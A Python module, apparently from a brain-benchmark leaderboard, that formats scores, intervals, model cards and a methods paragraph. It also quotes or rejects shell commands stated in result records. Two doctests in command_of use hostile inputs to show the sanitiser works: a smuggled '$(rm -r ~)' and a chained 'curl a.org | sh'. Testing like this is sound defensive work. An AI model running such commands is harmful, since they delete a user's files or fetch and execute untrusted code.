"""Words of the pages: numbers, labels and the methods sentence, all from the record."""

from __future__ import annotations

import json
import math
import re
import shlex
from collections.abc import Callable, Mapping, Sequence
from dataclasses import fields
from itertools import groupby
from typing import Any

from brainbench.core.errors import listing, visible, visible_name
from brainbench.core.records import Interval, ModelCard, ResultRecord, Score
from leaderboards.ranking import not_repeatable

SYNTHETIC = "Synthetic demo recordings: ranks say nothing about brains."

_CARD_LABELS = {
    "objective": "training objective",
    "multiply_adds": "multiply-adds per time step",
    "top1": "top-1 accuracy",
    "top5": "top-5 accuracy",
    "accuracy_data": "accuracy measured on",
    "collapsed": "collapsed to one class",
    "twin": "untrained twin",
    "twin_top1": "top-1 accuracy of the untrained twin",
    "twin_interval": "accuracy interval of the untrained twin",
    "weights": "weights (hash)",
    "citation": "architecture from",
    "layer": "layer committed to",
}
"""Labels of card fields that are not just their names."""


def number(value: float | None, digits: int = 3) -> str:
    """Format with a fixed number of digits and a true minus sign; NaN is ``undefined``."""
    if value is None or not math.isfinite(value):
        return "undefined"
    text = f"{value:.{digits}f}"
    return text.replace("-", "−") if float(text) else text.lstrip("-")


def probability(value: float) -> str:
    """Format a p-value with two significant digits."""
    return f"{value:.2g}" if math.isfinite(value) else "undefined"


def count(value: int | None) -> str:
    """Format an integer with thousands separated."""
    return "" if value is None else f"{value:,}"


def plural(amount: int, single: str, many: str = "") -> str:
    """Write an amount with its noun: ``1 result``, ``3 results``."""
    return f"{amount} {single if amount == 1 else many or single + 's'}"


def span(interval: Interval | None) -> str:
    """Format an interval as ``[low, high]``; empty without one."""
    return f"[{number(interval.low)}, {number(interval.high)}]" if interval else ""


def level(interval: Interval) -> str:
    """Say what kind of interval it is."""
    return f"{100 * interval.level:g} % interval" + (f", {interval.method}" if interval.method else "")


def group_rows(statistics: Mapping[str, Any]) -> dict[str, Any] | None:
    """Return what is shown of the board of groups of units; None without a usable one."""
    try:
        board = statistics["groups"]
        rows = []
        for group in board["groups"]:
            ends, scaled, p = (group[name] for name in ("interval", "scaled", "p_corrected"))
            rows.append(
                {
                    **{name: str(group[name] or "") for name in ("group", "status", "rank", "layer")},
                    **{name: int(group[name]) for name in ("units", "animals")},
                    "reasons": [*map(str, group["reasons"])],
                    "scaled": math.nan if scaled is None else float(scaled),
                    "p": math.nan if p is None else float(p),
                    "interval": Interval(float(ends["low"]), float(ends["high"])) if ends else None,
                }
            )
        return {"by": str(board["by"]), "reason": str(board["reason"]), "rows": rows}
    except (KeyError, TypeError, ValueError, AttributeError, OverflowError):
        # Statistics are free text in a record that somebody else may have written.
        return None


def unique_sentence(score: Score) -> str:
    """Say what the network explains beyond its controls; empty where nothing is stated of it."""
    part = score.provenance.unique
    if part is None:
        return ""
    if part.status == "undefined" or not math.isfinite(part.unique):
        return f"No unique part: {visible('; '.join(part.reasons) or 'no number is stated')}."
    ends = f" [{number(part.low, 2)}, {number(part.high, 2)}]" if math.isfinite(part.low + part.high) else ""
    doubt = "" if part.status == "ok" else f"; {visible(part.status)}: {visible('; '.join(part.reasons))}"
    nothing = "the mean response" if score.metric.startswith("ridge") else "equal distances"
    return (
        f"Unique part {number(part.unique, 2)}{ends}, beyond {visible(listing(part.controls, quoted=False))}; shared "
        f"with them {number(part.shared, 2)} (0 = {nothing}, 1 = all that is reliable){doubt}."
    )


def p_sentence(score: Score) -> str:
    """Say how the p-value was found and how small it could have been."""
    parts = [score.p_method] if score.p_method else []
    if score.p <= score.p_smallest * (1 + 1e-9):
        stimuli = len(score.stimuli)
        # With many stimuli the number of drawn orders is the limit, not the number of orders that exist.
        few = stimuli <= 20 and score.p_smallest * math.factorial(stimuli) < 2
        giver = plural(stimuli, "stimulus", "stimuli") if few else "this number of permutations"
        parts.append(f"this is the smallest that {giver} can give")
    elif math.isfinite(score.p_smallest):
        parts.append(f"the smallest possible is {probability(score.p_smallest)}")
    return "; ".join(parts)


def methods(records: Sequence[ResultRecord]) -> str:
    """Return a paragraph for a paper's methods section, made only of what the records of one board state."""
    score, names = records[0].score, list(dict.fromkeys(visible_name(record.score.name) for record in records))
    origin, many = score.provenance, f"{plural(len(names), 'model')} ({plural(len(records), 'record')}) were"
    text = (
        f"{many if len(names) > 1 else f'The model {names[0]} was'} compared with {origin.recordings_name} "
        f"({plural(len(score.subjects), 'animal')}, {plural(len(score.stimuli), 'stimulus', 'stimuli')})"
        f"{f' by {score.metric}' if score.metric else ''}, with noise correction by the estimator '{score.estimator}'."
    )
    scores = [record.score for record in records]
    stated = {
        "Benchmark": [one.provenance.benchmark_name for one in scores],
        "Recordings from": [" / ".join(one.provenance.citations) for one in scores],
        "Stimuli": [one.provenance.stimuli_name.rstrip(".") for one in scores],
        "Fidelity of the simulation": [str(one.provenance.settings.get("fidelity") or "") for one in scores],
        "Time axis": [origin.time_rule],
        "Layer": [one.layer_rule for one in scores],
        "Interval": [level(one.interval) if one.interval else "" for one in scores],
        # The mean under permutation is one record's own.
        "Significance": [re.sub(r"; mean score under permutation [−\-.\d]+", "", one.p_method) for one in scores],
        "Noise ceiling": [one.ceiling.method if one.ceiling else "" for one in scores],
    }
    # Records of one board may differ in these, such as a model with one layer beside others.
    facts = {label: " / ".join(dict.fromkeys(filter(None, values))) for label, values in stated.items()}
    text += "".join(f" {label}: {value}." for label, value in facts.items() if value)
    if len(names) < len(records):
        text += (
            " Networks that differ in the seed of their weights are one model: its score is the mean over seeds, the "
            "variance over seeds is part of its interval, the spread is the standard deviation over seeds."
        )
    if len(names) > 1:
        text += (
            " Models were told apart by a paired t test over animals and stimuli on scores scaled between chance and "
            "all that is reliable, at a false discovery rate of 5 % over all pairs; models that are not told apart "
            "share ranks."
        )
    versions = filter(None, sorted({record.score.provenance.version for record in records}))
    text += f" Computed with brainbench {', '.join(versions)}." if origin.version else ""
    hashes = {"recordings": origin.recordings_hash, "stimuli": origin.stimuli_hash}
    text += "".join(f" Hash of the {what} {found}." for what, found in hashes.items() if found)
    return text + (f" {SYNTHETIC}" if records[0].synthetic else "")


def card_rows(card: ModelCard) -> list[tuple[str, str]]:
    """Return what the model card states, as label and text; fields that do not apply are left out."""
    rows = []
    for entry in fields(card):
        value = getattr(card, entry.name)
        # The name is the page's heading; the training and the graph have their own places.
        if entry.name in ("name", "training", "graph") or value is None or value == "":
            continue
        if isinstance(value, Interval):
            value = f"{span(value)} ({level(value)})"
        elif isinstance(value, bool):
            value = "yes" if value else "no"
        elif isinstance(value, int) and entry.name != "seed":
            value = count(value)
        elif isinstance(value, float):
            value = number(value)
        rows.append((_CARD_LABELS.get(entry.name, entry.name.replace("_", " ")), str(value)))
    return rows


def ways_to_get(record: ResultRecord) -> list[str]:
    """Return the command that scores the model and the Python that loads it; nothing where nobody here can.

    >>> ways_to_get(ResultRecord(Score("s4-small", 0.5, "ok"), card=ModelCard("s4-small", family="s4", seed=2)))
    ['brainbench score s4-small --weights-seed 2', 'brainbench.load_model("s4-small", seed=2)']
    """
    card, name = record.card, record.score.name
    if card is None or not_repeatable(record) or card.family == "policy" or visible_name(name) != name:
        return []
    drawn = card.seed if card.seed and card.objective in (None, "untrained") else 0
    flag, argument = (f" --weights-seed {drawn}", f", seed={drawn}") if drawn else ("", "")
    return [f"brainbench score {shlex.quote(name)}{flag}", f"brainbench.load_model({json.dumps(name)}{argument})"]


def command_of(record: ResultRecord) -> str:
    """Return the commands of this package that a record states, as a shell runs them; empty with any other in it.

    >>> command_of(ResultRecord(Score("a", 0.5, "ok", provenance={"command": "brainbench score a $(rm -r ~)"})))
    "brainbench score a '$(rm' -r '~)'"
    >>> command_of(ResultRecord(Score("a", 0.5, "ok", provenance={"command": "brainbench score a; curl a.org | sh"})))
    ''
    """
    reader = shlex.shlex(record.score.provenance.command, posix=True, punctuation_chars=";")
    reader.whitespace_split, reader.commenters = True, ""
    try:
        parts = [[*words] for end, words in groupby(reader, ";".__eq__) if not end]
    except ValueError:  # an open quote
        return ""
    commands = [shlex.join(words) for words in parts if words[0] == "brainbench"]
    return visible("; ".join(commands)) if len(commands) == len(parts) else ""


def training_rows(card: ModelCard) -> list[tuple[str, str]]:
    """Return what the card says of the training, as label and text."""
    stated = {key: value for key, value in card.training.items() if value not in (None, "", {}, [])}
    facts = {key.replace("_", " "): _inline(value) for key, value in sorted(stated.items())}
    facts = {"objective": "", "augmentation": ""} | facts
    facts |= {"objective": card.objective, "augmentation": card.augmentation, "untrained twin": card.twin}
    return [(label, text) for label, text in facts.items() if stated and text]


def provenance_rows(provenance: Mapping[str, Any]) -> list[tuple[str, str]]:
    """Return the provenance as label and text, without the command, which the page shows by itself."""
    rows = []
    for key, value in sorted(provenance.items()):
        # Groups of facts get a row for each; short lists, such as the packages' versions, stay together.
        if isinstance(value, Mapping) and key not in ("packages", "pairs"):
            # Each layer's p stands in the table of layers; other statistics are measured, so few digits say all.
            stated = {name: item for name, item in value.items() if (key, name) != ("statistics", "layer_tests")}
            stated = with_floats(stated, lambda value: float(f"{value:.3g}")) if key == "statistics" else stated
            rows += [(f"{key}: {name}", item) for name, item in stated.items()]
        elif key != "command":
            rows.append((key, value))
    return [(key.replace("_", " "), _inline(item)) for key, item in rows if item not in (None, "", {}, [])]


def with_floats(value: Any, change: Callable[[float], Any]) -> Any:
    """Return a value with each of its floats changed."""
    if isinstance(value, Mapping):
        return {key: with_floats(entry, change) for key, entry in value.items()}
    if isinstance(value, (list, tuple)):
        return [with_floats(entry, change) for entry in value]
    return change(value) if isinstance(value, float) else value


def _inline(value: Any) -> str:
    if isinstance(value, Mapping):
        return ", ".join(f"{key}: {_inline(item)}" for key, item in value.items())
    if isinstance(value, (list, tuple)):
        return ", ".join(_inline(item) for item in value)
    return value if isinstance(value, str) else json.dumps(value)
